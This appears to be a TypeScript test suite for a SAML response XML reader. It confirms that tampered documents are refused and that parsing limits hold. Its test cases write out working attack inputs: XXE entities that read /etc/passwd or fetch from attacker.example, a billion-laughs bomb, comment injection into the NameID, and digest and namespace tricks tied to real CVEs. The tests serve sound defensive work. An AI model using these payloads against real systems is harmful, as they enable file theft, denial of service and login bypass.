/** What may not stand in a document of a stranger, whoever signed what else is in it. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { deflateRawSync } from "node:zlib";
import { posted, responseOf } from "../idp.test-support.ts";
import { type BadCase, idp, judge, refuseEach } from "../judge.test-support.ts";
import { MESSAGE_BOUNDS, METADATA_BOUNDS, readXml } from "./read-xml.ts";

/** What a genuine response becomes, whose signature still holds for most readers. */
const changed = (name: string, change: (text: string) => string): BadCase => ({
  name,
  reason: "malformed",
  text() {
    const text = responseOf(idp.signed());
    const other = change(text);
    assert.notEqual(other, text, "nothing was changed");
    return other;
  },
});
const before = (name: string, prefix: string) => changed(name, (text) => prefix + text);
const inNameId = (name: string, piece: string) =>
  changed(name, (text) => text.replace("ann@example.com", `ann@example.com${piece}`));
const bytes = (name: string, make: () => Buffer): BadCase => ({
  name,
  reason: "malformed",
  posted: () => make().toString("base64"),
});
const genuine = () => responseOf(idp.signed());

refuseEach([
  before("a DTD", "<!DOCTYPE samlp:Response>"),
  before("an external DTD", '<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">'),
  before("an external entity (XXE)", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  before("a parameter entity", '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://attacker.example/x">%x;]>'),
  before(
    "a bomb of entities (billion laughs)",
    `<!DOCTYPE r [<!ENTITY a "ha">${[..."bcdefghij"].map((name, index) => `<!ENTITY ${name} "${`&${"abcdefghij"[index]};`.repeat(10)}">`).join("")}]>`,
  ),
  before(
    "an ID attribute that a DTD declares (CVE-2025-25291, ruby-saml: two parsers, two documents)",
    "<!DOCTYPE r [<!ATTLIST x y ID #IMPLIED>]>",
  ),
  before("an attribute that a DTD gives", '<!DOCTYPE r [<!ATTLIST saml:NameID Format CDATA "urn:x">]>'),
  changed("a DTD within", (text) => text.replace("<samlp:Status>", "<!DOCTYPE x><samlp:Status>")),
  inNameId("an entity that nobody declared, in the NameID", "&x;"),
  inNameId(
    "a comment in the NameID (CVE-2017-11428, ruby-saml and others: the rest was cut off)",
    "<!---->.evil.com",
  ),
  inNameId("a processing instruction in the NameID", "<?x?>.evil.com"),
  inNameId("a CDATA section in the NameID", "<![CDATA[.evil.com]]>"),
  { ...inNameId("an element in the NameID", "<x/>"), reason: "signature" },
  changed("a comment in an attribute's value", (text) =>
    text.replace("urn:amazon:webservices", "urn:amazon<!-- -->:webservices"),
  ),
  changed("a comment in the digest (CVE-2025-29775, xml-crypto ≤ 6.0.0)", (text) =>
    text.replace("<ds:DigestValue>", "<ds:DigestValue><!--AAAA-->"),
  ),
  before("a processing instruction in front", '<?xml-stylesheet href="x"?>'),
  before("white space in front of the declaration", ' <?xml version="1.0"?>'),
  before("XML 1.1", '<?xml version="1.1"?>'),
  before("the declaration of UTF-16", '<?xml version="1.0" encoding="UTF-16"?>'),
  before("the declaration of UTF-7", '<?xml version="1.0" encoding="UTF-7"?>'),
  before("the declaration of EBCDIC", '<?xml version="1.0" encoding="IBM037"?>'),
  before("a byte order mark", "\uFEFF"),
  changed("text behind the root", (text) => `${text}x`),
  changed("an element behind the root", (text) => `${text}<x/>`),
  changed("no end", (text) => text.slice(0, -1)),
  changed("NUL", (text) => text.replace("ann@", "ann\0@")),
  inNameId("NUL as a reference", "&#0;"),
  inNameId("a lone half of a pair as a reference", "&#xD800;"),
  changed("an attribute twice", (text) => text.replace(' Version="2.0"', ' Version="2.0" Version="2.0"')),
  changed("an attribute twice, by two prefixes", (text) =>
    text.replace("<samlp:Status>", '<samlp:Status xmlns:a="urn:a" xmlns:b="urn:a" a:x="1" b:x="2">'),
  ),
  changed("a prefix that nobody declared", (text) =>
    text.replace("<samlp:Status>", "<samlp:Status x:y='1'>"),
  ),
  changed("a namespace that is relative (CVE-2025-66568: canonicalised to nothing)", (text) =>
    text.replace("<samlp:Status>", '<samlp:Status xmlns:x="relative/path">'),
  ),
  changed("a namespace of 30,000 characters", (text) =>
    text.replace("<samlp:Status>", `<samlp:Status xmlns:x="urn:${"x".repeat(30_000)}">`),
  ),
  changed(
    "an attribute whose name begins as a declaration's (xml-crypto leaves it out of what is signed)",
    (text) => text.replace("<saml:NameID ", '<saml:NameID xmlnsx="1" '),
  ),
  changed("an ID twice", (text) => text.replace("<samlp:Status>", '<samlp:Status ID="_r1">')),
  changed("an ID twice, in another spelling", (text) =>
    text.replace("<samlp:Status>", '<samlp:Status Id="_r1">'),
  ),
  changed("an ID twice, as xml:id", (text) => text.replace("<samlp:Status>", '<samlp:Status xml:id="_r1">')),
  changed("100,000 attributes on one element", (text) =>
    text.replace(
      "<samlp:Status>",
      `<samlp:Status ${Array.from({ length: 9_000 }, (_, index) => `a${index}=""`).join(" ")}>`,
    ),
  ),
  changed("100 namespaces on one element", (text) =>
    text.replace(
      "<samlp:Status>",
      `<samlp:Status ${Array.from({ length: 100 }, (_, index) => `xmlns:n${index}="urn:${index}"`).join(" ")}>`,
    ),
  ),
  changed("elements 10,000 deep", (text) =>
    text.replace("<samlp:Status>", `${"<x>".repeat(10_000)}${"</x>".repeat(10_000)}<samlp:Status>`),
  ),
  changed("15,000 elements", (text) =>
    text.replace("<samlp:Status>", `${"<x/>".repeat(15_000)}<samlp:Status>`),
  ),
  { name: "no base64", reason: "malformed", posted: () => "!!!" },
  {
    name: "base64 for addresses",
    reason: "malformed",
    posted: () => posted(`${genuine()} `).replace(/.$/, "_"),
  },
  {
    name: "base64 with bits to spare",
    reason: "malformed",
    posted: () => posted(`${genuine()}\n\n`).replace(/[A-Za-z0-9+/]=*$/, "B="),
  },
  { name: "nothing", reason: "malformed", posted: () => "    " },
  { name: "no XML", reason: "malformed", text: () => "not xml" },
  bytes("UTF-16", () => Buffer.from(genuine(), "utf16le")),
  bytes("bytes that are no UTF-8", () =>
    Buffer.concat([Buffer.from("<a>"), Buffer.of(0xc3, 0x28), Buffer.from("</a>")]),
  ),
  bytes("a lone half of a pair in UTF-8", () =>
    Buffer.concat([Buffer.from("<a>"), Buffer.of(0xed, 0xa0, 0x80), Buffer.from("</a>")]),
  ),
  bytes("a deflated document (CVE-2025-25293, ruby-saml: a small one becomes large)", () =>
    deflateRawSync(Buffer.from(genuine())),
  ),
]);

test("white space and lines of base64 make no difference", () => {
  const lines = posted(genuine()).replace(/.{64}/g, "$&\r\n");
  assert.equal(judge(` ${lines}\n`).subject, "ann@example.com");
});

test("a document is read no further than its bounds", () => {
  const attributes = `<a ${Array.from({ length: 100_000 }, (_, index) => `a${index}=""`).join(" ")}/>`;
  assert.throws(() => readXml(attributes), /more than 32 attributes/);
  const bounds = { ...MESSAGE_BOUNDS, elements: 3, depth: 2 };
  assert.equal(readXml("<a><b/><b/></a>", bounds).children.length, 2);
  assert.throws(() => readXml("<a><b/><b/><b/></a>", bounds), /more than 3 elements/);
  assert.throws(() => readXml("<a><b><c/></b></a>", bounds), /more than 2 elements deep/);
  assert.throws(
    () => readXml(`<a>${`<b c=""/>`.repeat(3)}</a>`, { ...MESSAGE_BOUNDS, attributesInAll: 2 }),
    /more than 2 attributes/,
  );
  assert.equal(readXml("<a>&amp;&lt;</a>", { ...MESSAGE_BOUNDS, references: 2 }).text, "&<");
  assert.throws(
    () => readXml("<a>&amp;&lt;&gt;</a>", { ...MESSAGE_BOUNDS, references: 2 }),
    /more than 2 references/,
  );
});

test("metadata may have comments, instructions and CDATA sections, but no DTD", () => {
  const text = '<?xml version="1.0" encoding="utf-8"?><?x y?><a><!-- one -->t<![CDATA[<&]]></a>';
  assert.equal(readXml(text, METADATA_BOUNDS).text, "t<&");
  assert.throws(() => readXml("<!DOCTYPE a><a/>", METADATA_BOUNDS), /DTD/);
});
